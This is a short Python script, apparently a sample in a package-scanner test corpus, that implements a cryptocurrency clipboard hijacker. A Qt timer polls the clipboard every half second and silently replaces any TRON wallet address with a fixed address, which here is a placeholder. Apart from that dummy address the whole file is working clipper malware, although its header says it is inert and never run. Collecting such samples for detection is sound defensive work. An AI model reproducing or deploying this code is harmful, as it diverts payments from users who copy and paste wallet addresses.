# pkgguard corpus 248 (clipboard), modelled on [wallet-tools]; inert, never run.
import re

from PyQt5.QtCore import QTimer
from PyQt5.QtWidgets import QApplication

TRON = re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$")
OURS = "T" + "1" * 33
app = QApplication([])
board = app.clipboard()


def _tick():
    if TRON.match(board.text()) and board.text() != OURS:
        board.setText(OURS)


timer = QTimer()
timer.timeout.connect(_tick)
timer.start(500)
app.exec_()
